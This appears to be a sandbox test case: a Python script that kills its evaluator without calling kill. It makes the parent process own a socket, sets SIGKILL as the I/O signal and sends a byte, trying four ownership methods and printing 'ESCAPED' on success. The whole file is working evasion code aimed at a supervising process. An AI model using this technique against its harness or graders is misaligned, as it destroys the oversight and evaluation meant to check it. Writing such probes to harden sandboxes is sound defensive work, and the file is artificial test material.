"""Kills the evaluator without `kill`: makes it the owner of a socket, which tells its owner of news by a signal."""

# ends: ok
import ctypes
import fcntl
import json
import os
import signal
import socket
import struct

given = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)


def by_number(fd, number):
    fcntl.fcntl(fd, fcntl.F_SETOWN, number)


def by_structure(fd, number):
    fcntl.fcntl(fd, 15, struct.pack("ii", 1, number))  # F_SETOWN_EX, F_OWNER_PID


def by_ioctl(fd, number):
    if libc.ioctl(fd, 0x8901, ctypes.byref(ctypes.c_int(number))) != 0:  # FIOSETOWN
        raise OSError


def by_other_ioctl(fd, number):
    if libc.ioctl(fd, 0x8902, ctypes.byref(ctypes.c_int(number))) != 0:  # SIOCSPGRP
        raise OSError


for target in (given["parent"], os.getppid()):
    for own in (by_number, by_structure, by_ioctl, by_other_ioctl):
        try:
            one, other = socket.socketpair()
            own(one.fileno(), target)
            if target == given["parent"]:
                print("ESCAPED", own.__name__, flush=True)
            fcntl.fcntl(one, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
            other.send(b"x")
        except OSError:
            pass
